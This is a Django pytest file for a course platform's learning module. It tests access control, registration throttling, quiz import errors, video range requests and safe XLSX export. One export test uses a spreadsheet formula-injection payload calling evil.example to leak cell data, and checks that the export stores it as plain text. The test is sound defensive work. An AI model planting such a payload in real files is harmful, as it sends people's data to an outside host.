from __future__ import annotations

import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from kaskad.accounts.models import Role
from kaskad.accounts.tests.factories import make_user
from kaskad.delivery.tests.factories import make_teacher
from kaskad.learning import services, steps
from kaskad.learning.models import Attempt, Enrolment, Step
from kaskad.learning.tests.factories import course_admin, make_course, published_course

pytestmark = pytest.mark.django_db


def learner_client(course: Any) -> tuple[Client, Any]:
    user = make_user(roles=[(Role.TEACHER, None)], person=make_teacher())
    client = Client()
    client.force_login(user)
    return client, user


def test_course_page_query_count_does_not_grow_with_the_course() -> None:
    course, by = published_course()
    client, _user = learner_client(course)
    assert client.post(reverse("learning:enrol", args=[course.pk])).status_code == 302
    url = reverse("learning:course", args=[course.pk])
    client.get(url)  # the outline is cached per version from here on
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    # A much larger new version: 60 more steps.
    draft = services.draft_for(course=course, by=by)
    module = services.module_add(version=draft, title="More", by=by)
    lesson = services.lesson_add(module=module, title="More", by=by)
    for i in range(60):
        services.step_add(lesson=lesson, definition={"kind": "text", "body": f"t{i}"}, by=by)
    services.version_publish(version=draft, by=by)
    course.refresh_from_db()
    client2, _ = learner_client(course)
    client2.post(reverse("learning:enrol", args=[course.pk]))
    client2.get(url)
    with CaptureQueriesContext(connection) as large:
        response = client2.get(url)
    assert response.status_code == 200
    assert len(large.captured_queries) == len(small.captured_queries)
    assert len(large.captured_queries) < 10, [q["sql"] for q in large.captured_queries]
    print("course page queries:", len(large.captured_queries))


def test_step_page_submit_and_double_click() -> None:
    course, _ = published_course()
    client, user = learner_client(course)
    client.post(reverse("learning:enrol", args=[course.pk]))
    step = Step.objects.filter(version=course.current_version, kind="single_choice").get()
    url = reverse("learning:step", args=[step.pk])
    assert client.get(url).status_code == 200
    enrolment = Enrolment.objects.get(user=user)
    progress = enrolment.progress.get(step=step)
    good = steps.correct_reply(step.definition, progress.variant or {})["choice"]
    data = {"choice": str(good), "submit_key": "k1"}
    first = client.post(url, data)
    second = client.post(url, data)
    assert first.status_code == second.status_code == 200
    assert "lc-feedback--right" in first.content.decode()
    assert Attempt.objects.filter(step=step).count() == 1
    # An incomplete reply is a clear message, not a wrong answer.
    bad = client.post(url, {"submit_key": "k2"})
    assert bad.status_code == 400
    assert Attempt.objects.filter(step=step).count() == 1


def test_reply_to_a_step_of_another_version_is_refused() -> None:
    course, by = published_course()
    client, _user = learner_client(course)
    client.post(reverse("learning:enrol", args=[course.pk]))
    draft = services.draft_for(course=course, by=by)
    v2 = services.version_publish(version=draft, by=by)
    other = Step.objects.get(version=v2, kind="single_choice")
    response = client.post(
        reverse("learning:step", args=[other.pk]), {"choice": "0", "submit_key": "x"}
    )
    assert response.status_code == 409
    assert not Attempt.objects.exists()


def test_stranger_sees_not_found_on_team_pages() -> None:
    course, _ = published_course()
    client, _ = learner_client(course)
    for name in ("team_course", "learners", "stats", "export"):
        assert client.get(reverse(f"learning:{name}", args=[course.pk])).status_code == 404


def test_team_pages_and_gift_import_errors() -> None:
    by = course_admin()
    course = make_course(by=by)
    client = Client()
    client.force_login(by)
    client.cookies["django_language"] = "en"
    client.post(reverse("learning:module_add", args=[course.pk]), {"title": "M1"})
    draft = course.versions.get()
    module = draft.modules.get()
    client.post(
        reverse("learning:lesson_add", args=[course.pk]), {"module": module.pk, "title": "L1"}
    )
    lesson = module.lessons.get()
    bad = SimpleUploadedFile("quiz.gift", b"Q1 {=a ~b}\n\nQ2 {=a ~b\n")
    response = client.post(
        reverse("learning:gift_import", args=[course.pk]),
        {"lesson": lesson.pk, "file": bad},
        follow=True,
    )
    assert "line 3" in response.content.decode()
    assert not Step.objects.filter(version=draft).exists()
    good = SimpleUploadedFile("quiz.gift", b"::Q1:: Two and two? {=four ~five}\n")
    client.post(
        reverse("learning:gift_import", args=[course.pk]), {"lesson": lesson.pk, "file": good}
    )
    assert Step.objects.filter(version=draft).count() == 1
    not_video = SimpleUploadedFile("clip.mp4", b"MZ\x90\x00 an executable")
    response = client.post(
        reverse("learning:step_add", args=[course.pk]),
        {"lesson": lesson.pk, "kind": "video", "title": "Clip", "upload": not_video},
        follow=True,
    )
    assert "is not a video" in response.content.decode()
    client.post(reverse("learning:publish", args=[course.pk]))
    course.refresh_from_db()
    assert course.current_version_id == draft.pk
    for name in ("team_course", "learners", "stats", "export", "gift_export"):
        assert client.get(reverse(f"learning:{name}", args=[course.pk])).status_code == 200


def test_video_is_served_with_ranges(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = str(tmp_path)
    course, by = published_course()
    draft = services.draft_for(course=course, by=by)
    lesson = draft.modules.get().lessons.get()
    data = b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 4
    services.step_add(
        lesson=lesson, definition={"kind": "video"}, by=by, media=SimpleUploadedFile("v.mp4", data)
    )
    services.version_publish(version=draft, by=by)
    course.refresh_from_db()
    client, _ = learner_client(course)
    client.post(reverse("learning:enrol", args=[course.pk]))
    video = Step.objects.get(version=course.current_version, kind="video")
    url = reverse("learning:step_media", args=[video.pk])
    response = client.get(url, HTTP_RANGE="bytes=10-19")
    assert response.status_code == 206
    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert body == data[10:20]
    assert response["Content-Range"] == f"bytes 10-19/{len(data)}"
    assert client.get(url, HTTP_RANGE=f"bytes={len(data) + 5}-").status_code == 416
    full = client.get(url)
    assert full.status_code == 200 and full["Accept-Ranges"] == "bytes"


def test_public_registration_and_enrolment(
    mailoutbox: list[Any], django_capture_on_commit_callbacks: Any
) -> None:
    course, _ = published_course(is_public=True)
    client = Client()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("learning:register"),
            {
                "first_name": "Айгүл",
                "last_name": "Бекова",
                "email": "aigul@example.kz",
                "password": "a-long-pass-phrase-42",
            },
        )
    assert response.status_code == 200  # "check your inbox"
    link = re.search(r"/learning/register/confirm/[^\s/]+/", mailoutbox[0].body)
    assert link is not None
    assert client.get(link.group(0)).status_code == 302  # confirmed and signed in
    assert client.post(reverse("learning:enrol", args=[course.pk])).status_code == 302
    assert Enrolment.objects.filter(user__username="aigul@example.kz").exists()
    page = client.get(reverse("learning:course", args=[course.pk]))
    assert page.status_code == 200


def test_export_keeps_a_learners_self_chosen_name_as_text() -> None:
    # A public learner names themselves after a formula: the team's XLSX must show the text,
    # not run it when opened.
    import io

    import openpyxl

    from kaskad.learning.exports import progress_workbook

    course, _ = published_course(is_public=True)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    learner = services.learner_create(
        email="formula@example.kz",
        password="a-long-pass-phrase-42",
        first_name=hostile,
        last_name="",
    )
    services.enrol(course=course, user=learner)
    book = openpyxl.load_workbook(io.BytesIO(progress_workbook(course=course)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert hostile in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)


def test_public_registration_is_throttled_per_address(settings: Any) -> None:
    # Anyone may register without an account; without a limit one address could create
    # accounts (and make the server hash passwords) without end.
    from django.core.cache import cache

    from kaskad.accounts.models import User

    cache.clear()
    settings.KASKAD_LEARNING_REGISTER_LIMIT = 2
    statuses = []
    for n in range(3):
        response = Client().post(
            reverse("learning:register"),
            {
                "first_name": "Bot",
                "last_name": "",
                "email": f"bot{n}@example.kz",
                "password": "a-long-pass-phrase-42",
            },
        )
        statuses.append(response.status_code)
    assert statuses == [200, 200, 429]  # "check your inbox" twice, then refused
    assert not User.objects.filter(username="bot2@example.kz").exists()
    cache.clear()


def test_a_course_for_teachers_looks_missing_to_a_learner_with_an_e_mail_only() -> None:
    """Someone without a registry record and without a role sees public courses only: a
    course for teachers answers exactly like an id nobody has, offer and enrolment alike."""
    teachers_only, _ = published_course()
    public, _ = published_course(is_public=True)
    learner = services.learner_create(
        email="guest@example.kz", password="a-long-pass-phrase-42", first_name="Guest", last_name=""
    )
    nobody = make_user(roles=[])
    for user in (learner, nobody):
        client = Client()
        client.force_login(user)
        for name in ("learning:course", "learning:enrol"):
            ask = client.get if name == "learning:course" else client.post
            answers = []
            for pk in (teachers_only.pk, 987654321):
                url = reverse(name, args=[pk])
                response = ask(url)
                body = response.content.decode().replace(url, "{url}")
                body = re.sub(
                    r'"X-CSRFToken": "[^"]*"|csrfmiddlewaretoken" value="[^"]*"', "", body
                )
                answers.append((response.status_code, re.sub(r'nonce="[^"]*"', "", body)))
            assert answers[0][0] == 404 and answers[0] == answers[1]
        assert client.get(reverse("learning:course", args=[public.pk])).status_code == 200
    assert not Enrolment.objects.filter(user__in=[learner, nobody], course=teachers_only).exists()
    # A teacher (a registry person) and staff with a role still see the offer.
    for user in (
        make_user(roles=[(Role.TEACHER, None)], person=make_teacher()),
        make_user(roles=[(Role.ANALYST, None)]),
    ):
        client = Client()
        client.force_login(user)
        assert client.get(reverse("learning:course", args=[teachers_only.pk])).status_code == 200
